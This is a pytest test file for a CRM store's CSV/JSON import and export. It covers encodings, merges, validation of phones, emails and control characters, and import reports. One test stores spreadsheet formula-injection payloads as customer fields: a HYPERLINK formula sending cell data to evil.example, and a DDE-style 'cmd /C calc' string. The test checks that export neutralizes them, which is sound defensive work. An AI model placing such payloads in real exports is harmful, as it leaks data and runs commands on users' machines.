"""Import (CSV/JSON, UTF-8/BOM/GBK, wrong columns, duplicates, malformed phones) and export round trips."""

from __future__ import annotations

import csv
import json
from datetime import UTC, date, datetime
from pathlib import Path

import pytest

from crmstore import (
    COMPLAINT,
    CallFacts,
    CrmPermissionError,
    CrmStore,
    Flag,
    ImportFormatError,
    NewCustomer,
    Role,
    Viewer,
    WrapUp,
    import_export,
    open_store,
)
from crmstore.import_export import email_problem, export, import_file

ADMIN = Viewer("adm", Role.ADMIN)
CSV_TEXT = (
    "姓名,公司,手机,电话,账号,备注,vip,flag_reason\n"
    "张伟,华为技术,13800000001,010-12345678,AC1,老客户,是,董事\n"
    "李娜,腾讯科技,13800000002,,AC2,,,\n"
)


def _write(tmp_path: Path, name: str, text: str, encoding: str) -> Path:
    p = tmp_path / name
    p.write_bytes(text.encode(encoding))
    return p


@pytest.mark.parametrize(
    ("encoding", "reported"), [("gbk", "gbk"), ("utf-8-sig", "utf-8-sig"), ("utf-8", "utf-8")]
)
async def test_csv_encodings_and_chinese_headers(
    store: CrmStore, tmp_path: Path, encoding: str, reported: str
) -> None:
    report = await import_file(store, _write(tmp_path, "c.csv", CSV_TEXT, encoding), default_country="CN")
    assert (report.encoding, report.rows, report.created, report.merged, report.rejected) == (
        reported,
        2,
        2,
        0,
        (),
    )
    ident = await store.identify_by_phone("010 1234 5678")
    assert ident is not None and ident.name == "张伟" and ident.vip
    card = await store.get_customer(ident.customer_id, ADMIN)
    assert card.company == "华为技术" and card.notes == "老客户" and card.accounts == ("AC1",)
    assert card.phones == ("+8613800000001", "+861012345678")
    assert (await store.flags(ident.customer_id))[0].reason == "董事"


async def test_wrong_columns_name_the_columns(store: CrmStore, tmp_path: Path) -> None:
    p = _write(tmp_path, "bad.csv", "fullname,phone_no,phones\nx,1,2\n", "utf-8")
    with pytest.raises(
        ImportFormatError, match=r"unknown column\(s\) 'fullname', 'phone_no'; missing column\(s\) name"
    ):
        await import_file(store, p)
    assert (await store.counts())["customers"] == 0
    with pytest.raises(ImportFormatError, match="empty"):
        await import_file(store, _write(tmp_path, "empty.csv", "", "utf-8"))
    with pytest.raises(ImportFormatError, match="unknown file type"):
        await import_file(store, _write(tmp_path, "x.xlsx", "", "utf-8"))


async def test_bad_rows_are_reported_with_row_numbers(store: CrmStore, tmp_path: Path) -> None:
    text = (
        "name,phones,email,vip,grade\n"
        "Good One,13800000001,a@b.cn,,\n"
        "Bad Phone,12ab,,,\n"
        ",,,,\n"  # blank line: ignored, not a row
        "Nobody,,,,\n"
        ",,,no,\n"
        "Bad Mail,13800000009,not-an-address,,\n"
        "Bad Flag,13800000008,,maybe,\n"
        "Bad Grade,13800000007,,,Z\n"
        "Too,13800000006,,,,extra\n"
    )
    report = await import_file(store, _write(tmp_path, "r.csv", text, "utf-8"))
    reasons = {r.row: r.reason for r in report.rejected}
    assert report.created == 2 and report.accepted == 2  # "Good One" and "Nobody" (a name is enough)
    assert sorted(reasons) == [2, 5, 6, 7, 8, 9]
    assert "'12ab' is not valid" in reasons[2]
    assert reasons[5] == "neither a name nor a phone number"
    assert "not an address" in reasons[6] and "vip='maybe'" in reasons[7] and "'Z'" in reasons[8]
    assert "6 fields" in reasons[9]


async def test_duplicates_merge_never_double(store: CrmStore, tmp_path: Path) -> None:
    existing = await store.create_customer(NewCustomer(name="张伟", phones=("13800000001",), notes="old"))
    other = await store.create_customer(NewCustomer(name="王芳", phones=("13800000005",)))
    text = (
        "name,company,phones,accounts,tags,notes\n"
        "张伟,华为,13800000001,AC1,gold,new note\n"  # merges into existing by phone
        "Zhang Wei,,13900000000,AC1,vip;gold,\n"  # merges into the same customer by account (added above)
        "Clash,,13800000001;13800000005,,,\n"  # two different customers: reported, not merged
        "New Guy,,13700000000,,,\n"
    )
    p = _write(tmp_path, "d.csv", text, "utf-8")
    report = await import_file(store, p)
    assert (report.created, report.merged) == (1, 2)
    assert [r.row for r in report.rejected] == [3] and f"({existing}, {other})" in report.rejected[0].reason
    card = await store.get_customer(existing, ADMIN)
    assert card.name == "张伟" and card.company == "华为" and card.tags == ("gold", "vip")
    # the other name of row 2 is kept, not lost
    assert card.notes == "old\nnew note\nalso known as: Zhang Wei"
    assert card.phones == ("+8613800000001", "+8613900000000")
    # every merge is reported: row, customer, what was kept
    assert [(m.row, m.customer_id, m.name) for m in report.merges] == [(1, existing, "张伟"), (2, existing, "张伟")]
    assert report.merges[0].kept == "notes appended; company '华为' filled in; accounts AC1 added; tags gold added"
    assert report.merges[1].kept == (
        "name '张伟' kept, 'Zhang Wei' added to the notes as another name; phones +8613900000000 added;"
        " tags vip added"
    )
    again = await import_file(store, p)  # the same file twice doubles nothing
    assert (again.created, again.merged) == (0, 3)
    assert [m.kept for m in again.merges] == [
        "nothing new",
        "name '张伟' kept, 'Zhang Wei' already in the notes as another name",
        "nothing new",
    ]
    assert (await store.counts())["customers"] == 3
    assert (await store.get_customer(existing, ADMIN)).notes == "old\nnew note\nalso known as: Zhang Wei"


async def test_json_round_trip_with_history(store: CrmStore, tmp_path: Path, db_url: str) -> None:
    cid = await store.create_customer(
        NewCustomer(
            name="张伟", company="华为", phones=("13800000001",), accounts=("AC1",), tags=("gold",), notes="n"
        )
    )
    await store.set_flag(cid, Flag.KEY_ACCOUNT, "contract")
    await store.add_purchase(cid, "99.90", date(2025, 2, 1), ref="o1")
    start = datetime(2025, 3, 1, 8, 0, tzinfo=UTC)
    await store.save_wrapup(
        WrapUp(CallFacts("k1", "13800000001", start, agent="1001", ivr_path=("a", "b")), "sale")
    )
    await store.open_ticket(cid, COMPLAINT, "late", opened_at=start)
    out = tmp_path / "all.json"
    assert await export(store, out, viewer=ADMIN) == 1
    doc = json.loads(out.read_text("utf-8"))
    c = doc["customers"][0]
    assert (
        c["name"] == "张伟" and c["phones"] == ["+8613800000001"] and c["purchases"][0]["amount"] == "99.90"
    )
    assert c["interactions"][0]["ivr_path"] == ["a", "b"] and c["flags"] == [
        {"flag": "key_account", "reason": "contract"}
    ]
    # into a fresh database, then the same file again: nothing doubled
    fresh = await open_store(f"sqlite://{tmp_path}/fresh.db")
    try:
        for _ in range(2):
            report = await import_file(fresh, out)
            assert report.rejected == ()
        counts = await fresh.counts()
        assert (counts["customers"], counts["purchases"], counts["interactions"], counts["tickets"]) == (
            1,
            1,
            1,
            1,
        )
        pop = await fresh.screen_pop(phone="13800000001", viewer=ADMIN)
        assert pop.customer is not None and pop.interactions[0].disposition == "sale" and pop.open_tickets
    finally:
        await fresh.close()
    csv_out = tmp_path / "all.csv"
    assert await export(store, csv_out, viewer=ADMIN) == 1
    raw = csv_out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf") and "张伟".encode() in raw
    back = await open_store(f"sqlite://{tmp_path}/back.db")
    try:
        assert (await import_file(back, csv_out)).created == 1
        assert (await back.identify_by_account("AC1")) is not None
    finally:
        await back.close()
    with pytest.raises(CrmPermissionError):
        await export(store, out, viewer=Viewer("1001", Role.AGENT))


async def test_json_bad_documents(store: CrmStore, tmp_path: Path) -> None:
    with pytest.raises(ImportFormatError, match="not valid JSON"):
        await import_file(store, _write(tmp_path, "x.json", "{", "utf-8"))
    items = [
        {"name": "ok"},
        "nope",
        {"name": "x", "colour": "red"},
        {"name": "y", "purchases": [{"amount": "1"}]},
    ]
    report = await import_file(store, _write(tmp_path, "y.json", json.dumps(items), "utf-8"))
    assert report.created == 1 and [r.row for r in report.rejected] == [2, 3, 4]
    assert "colour" in report.rejected[1].reason and "purchases entry" in report.rejected[2].reason


# ---- spreadsheets: formula injection, and the round trip that must survive the guard


async def test_csv_export_neutralizes_formulas_and_round_trips(store: CrmStore, tmp_path: Path) -> None:
    tricky = NewCustomer(
        name='=HYPERLINK("http://evil.example/?x="&A1,"click")',
        company="+cmd|' /C calc'!A0",
        phones=("+8613800138000",),
        accounts=("-2+3",),
        tags=("@SUM(1)",),
        notes="-1 call back\nthen more",
        preferred_language="'quoted already",
    )
    cid = await store.create_customer(tricky)
    out = tmp_path / "out.csv"
    assert await export(store, out, viewer=ADMIN) == 1
    with out.open(encoding="utf-8-sig", newline="") as fh:
        header, row = list(csv.reader(fh))
    cells = dict(zip(header, row, strict=True))
    for column in ("name", "company", "phones", "accounts", "tags", "notes", "preferred_language"):
        assert cells[column].startswith("'"), (column, cells[column])  # shown as text, never run
    assert cells["phones"] == "'+8613800138000"
    back = await open_store(f"sqlite://{tmp_path}/back.db")
    try:
        report = await import_file(back, out)
        assert (report.created, report.rejected) == (1, ())
        ident = await back.identify_by_phone("+8613800138000")
        assert ident is not None
        again = await back.get_customer(ident.customer_id, ADMIN)
    finally:
        await back.close()
    original = await store.get_customer(cid, ADMIN)
    assert (again.name, again.company, again.phones, again.accounts, again.tags, again.notes) == (
        original.name,
        original.company,
        original.phones,
        original.accounts,
        original.tags,
        original.notes,
    )
    assert again.preferred_language == "'quoted already"


async def test_a_hand_made_sheet_with_excel_text_quotes(store: CrmStore, tmp_path: Path) -> None:
    p = _write(tmp_path, "h.csv", "name,phones\nWang,'+8613800138000\nLi,'13900000000\n", "utf-8")
    report = await import_file(store, p)
    assert (report.created, report.rejected) == (2, ())
    assert await store.identify_by_phone("13800138000") is not None
    assert await store.identify_by_phone("13900000000") is not None


# ---- rows that must be refused, each with its reason


async def test_control_characters_are_refused_per_row(store: CrmStore, tmp_path: Path) -> None:
    text = (
        "name,company,notes,tags\n"
        "Li\x00Na,,,\n"  # NUL: PostgreSQL would refuse the whole batch
        "Bell,Acme\x07,,\n"
        "Multi,,line one\nline\ttwo,\n"  # unquoted line break: "line\ttwo" is the next row's name
        '"Quoted",,"line one\nline\ttwo",\n'  # notes may hold line breaks and tabs
        "Tagged,,,a\x1bb\n"
        "Fine,,,\n"
    )
    report = await import_file(store, _write(tmp_path, "c.csv", text, "utf-8"))
    reasons = {r.row: r.reason for r in report.rejected}
    assert reasons[1] == "name contains a control character (U+0000) at position 2"
    assert reasons[2] == "company contains a control character (U+0007) at position 4"
    assert reasons[4] == "name contains a control character (U+0009) at position 4"  # tabs only in notes
    assert reasons[6] == "tags contains a control character (U+001B) at position 1"
    assert sorted(reasons) == [1, 2, 4, 6]
    assert report.created == 3  # Multi, Quoted, Fine
    quoted = await store.search("Quoted", ADMIN)
    assert quoted[0].notes == "line one\nline\ttwo"
    items = [{"name": "J\u2028son"}, {"name": "ok", "notes": "a\x00b"}, {"name": "ok2", "notes": "a\r\nb"}]
    report = await import_file(store, _write(tmp_path, "c.json", json.dumps(items), "utf-8"))
    assert [(r.row, r.reason) for r in report.rejected] == [
        (1, "name contains a control character (U+2028) at position 1"),
        (2, "notes contains a control character (U+0000) at position 1"),
    ]
    assert report.created == 1


async def test_phone_numbers_must_exist_and_the_pop_still_answers(store: CrmStore, tmp_path: Path) -> None:
    text = "name,phones\nShort,12345\nGood,13800138000\nLandline,010-12345678\nUnassigned,+86 100 0000 0000\n"
    report = await import_file(store, _write(tmp_path, "p.csv", text, "utf-8"))
    reasons = {r.row: r.reason for r in report.rejected}
    assert sorted(reasons) == [1, 4] and report.created == 2
    assert "'12345' is not valid" in reasons[1] and "no such number range" in reasons[1]
    assert await store.identify_by_phone("12345") is None
    # The lookup side stays lenient: a pop for any caller number, readable or not.
    short = await store.screen_pop(phone="12345", viewer=ADMIN)
    assert short.customer is None and short.actions
    garbled = await store.screen_pop(phone="12ab", viewer=ADMIN)
    assert garbled.customer is None and any("not readable" in a.text for a in garbled.actions)
    good = await store.screen_pop(phone="13800138000", viewer=ADMIN)
    assert good.customer is not None and good.customer.name == "Good"


@pytest.mark.parametrize(
    ("email", "ok"),
    [
        ("zhang.wei@example.com", True),
        ("li+crm@mail.example.co.uk", True),
        ("王芳@例子.中国", True),
        ("lisi@example", False),
        ("lisi@@example.com", False),
        ("li si@example.com", False),
        ("lisi@example..com", False),
        ("lisi@-example.com", False),
        ("@example.com", False),
        ("lisi.@example.com", False),
        ("lisi@example.com\t", False),
        ("lisi@127.0.0.1", False),
    ],
)
def test_email_problem(email: str, ok: bool) -> None:
    assert (email_problem(email) is None) is ok


async def test_bad_email_rows_are_rejected(store: CrmStore, tmp_path: Path) -> None:
    text = "name,email\nLi Si,lisi@example\nWang,wang@example.cn\n"
    report = await import_file(store, _write(tmp_path, "e.csv", text, "utf-8"))
    assert [(r.row, r.reason) for r in report.rejected] == [
        (1, "email 'lisi@example' is not an address (domain 'example' has no dot)")
    ]


async def test_history_values_are_checked_before_the_write(store: CrmStore, tmp_path: Path) -> None:
    start = "2025-03-01T08:00:00+00:00"
    items = [
        {"name": "Good", "phones": ["13800000001"], "interactions": [{"call_id": "g1", "started_at": start}]},
        {"name": "Sideways", "phones": ["13800000002"],
         "interactions": [{"call_id": "s1", "started_at": start, "direction": "sideways"}]},
        {"name": "Slow", "interactions": [{"call_id": "s2", "started_at": start, "wait_s": "long"}]},
        {"name": "Napping", "follow_ups": [{"kind": "nap", "due_at": start}]},
        {"name": "Stars", "interactions": [{"call_id": "s3", "started_at": start, "survey_score": 9}]},
        {"name": "Never", "tickets": [{"category": "x", "opened_at": "yesterday"}]},
    ]
    report = await import_file(store, _write(tmp_path, "h.json", json.dumps(items), "utf-8"))
    assert report.created == 1
    assert [(r.row, r.reason) for r in report.rejected] == [
        (2, "interactions entry 1: direction 'sideways' is not one of inbound, outbound"),
        (3, "interactions entry 1: wait_s 'long' is not a number of seconds"),
        (4, "follow_ups entry 1: kind 'nap' is not one of callback, visit, satisfaction_call"),
        (5, "interactions entry 1: survey_score 9 is not 1 to 5"),
        (6, "tickets entry 1: opened_at 'yesterday' is not an ISO date and time"),
    ]
    pop = await store.screen_pop(phone="13800000001", viewer=ADMIN)
    assert pop.customer is not None and pop.interactions[0].call_id == "g1"
    assert (await store.screen_pop(phone="13800000002", viewer=ADMIN)).customer is None


# ---- the report


async def test_report_reads_as_text(store: CrmStore, tmp_path: Path) -> None:
    cid = await store.create_customer(NewCustomer(name="张伟", phones=("13800000001",)))
    text = "name,phones,email\nZhang Wei,13800000001,\nBad,12345,\nNew,13900000000,x@y\n"
    p = _write(tmp_path, "r.csv", text, "utf-8")
    seen: list[str] = []
    report = await import_file(store, p, on_row=lambda o: seen.append(str(o)))
    assert seen == [
        f"row 1: merged into customer {cid} ('张伟'): name '张伟' kept, 'Zhang Wei' added to the notes as another name",
        (
            "row 2: rejected: phone number '12345' is not valid (default country CN): no such number range"
            " in country code +86"
        ),
        "row 3: rejected: email 'x@y' is not an address (domain 'y' has no dot)",
    ]
    assert str(report).splitlines() == [*seen, f"{p} (utf-8): 3 rows: 0 created, 1 merged, 2 rejected"]


async def test_report_keeps_the_first_details_and_exact_totals(
    store: CrmStore, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(import_export, "DETAIL_LIMIT", 2)
    text = "name,phones\n" + "".join(f"n{i},12{i}\n" for i in range(5))
    seen: list[int] = []
    report = await import_file(store, _write(tmp_path, "x.csv", text, "utf-8"), on_row=lambda o: seen.append(o.row))
    assert seen == [1, 2, 3, 4, 5]
    assert (report.rejected_count, [r.row for r in report.rejected], report.details_left_out) == (5, [1, 2], 3)
    assert "... and 3 more merged or rejected rows not listed" in str(report)


# ---- files that cannot be read at all: refused before any row is written


async def test_file_errors_come_before_any_write(store: CrmStore, tmp_path: Path) -> None:
    good = "".join(f"Customer {i},1380000{i:04d}\n" for i in range(1200))  # more than two write batches
    late_bad_byte = tmp_path / "late.csv"
    late_bad_byte.write_bytes(("name,phones\n" + good).encode() + b"Broken,\xff\xfe\n")
    with pytest.raises(ImportFormatError, match=r"late.csv: cannot decode the file as UTF-8 or GBK \(byte \d+, line 1202\)"):
        await import_file(store, late_bad_byte)
    items = [{"name": f"c{i}"} for i in range(1200)]
    truncated = _write(tmp_path, "cut.json", json.dumps({"customers": items})[:-30], "utf-8")
    with pytest.raises(ImportFormatError, match=r"cut.json: not valid JSON at line 1"):
        await import_file(store, truncated)
    big = _write(tmp_path, "big.csv", "name\n" + "x\n" * 1000, "utf-8")
    with pytest.raises(ImportFormatError, match=r"big.csv: 2005 bytes is larger than the import limit of 1000 bytes"):
        await import_file(store, big, max_bytes=1000)
    with pytest.raises(ImportFormatError, match=r"missing.csv: cannot read: No such file"):
        await import_file(store, tmp_path / "missing.csv")
    long_line = _write(tmp_path, "long.csv", "name\n" + "x" * (2 << 20) + "\n", "utf-8")
    with pytest.raises(ImportFormatError, match=r"long.csv: line 2 is longer than 1048576 characters"):
        await import_file(store, long_line)
    assert (await store.counts())["customers"] == 0


# ---- row checks on any JSON value (found by bench/fuzz.py): a reason, never another exception


@pytest.mark.parametrize(
    ("flags", "reason"),
    [
        (["vip"], 'flags entry \'vip\' is not an object such as {"flag": "vip", "reason": "..."}'),
        ([None], "flags entry None is not an object"),
        ([["vip"]], "flags entry ['vip'] is not an object"),
        ([{"flag": ["vip"]}], "flag {'flag': ['vip']} is not one of vip, key_account, blacklist, difficult"),
        ([{"flag": "vip", "reason": ["x"]}], "flag reason must be text, not list"),
        ([{"flag": "x" * 500}], "flag {'flag': 'xxxxx"),
    ],
)
def test_a_flags_entry_of_any_shape_is_a_reason(flags: list[object], reason: str) -> None:
    with pytest.raises(ValueError) as info:
        import_export.validate(1, {"name": "A", "flags": flags}, "CN")
    assert str(info.value).startswith(reason) and len(str(info.value)) < 200, str(info.value)


@pytest.mark.parametrize("wait", [10**400, -(10**400), float("inf"), float("nan"), -1, "1", True, None, [1]],
                         ids=lambda v: repr(v)[:12])
def test_seconds_of_any_json_value_is_a_reason(wait: object) -> None:
    entry = {"call_id": "c1", "started_at": "2025-03-01T08:00:00+00:00", "wait_s": wait}
    with pytest.raises(ValueError, match=r"^interactions entry 1: wait_s .* is not a number of seconds$") as info:
        import_export.validate(1, {"name": "A", "interactions": [entry]}, "CN")
    assert len(str(info.value)) < 200


def test_seconds_still_take_whole_and_decimal_numbers() -> None:
    entry = {"call_id": "c1", "started_at": "2025-03-01T08:00:00+00:00", "wait_s": 20, "talk_s": 280.5}
    row = import_export.validate(1, {"name": "A", "interactions": [entry]}, "CN")
    assert row.history["interactions"][0][9:11] == (20.0, 280.5)
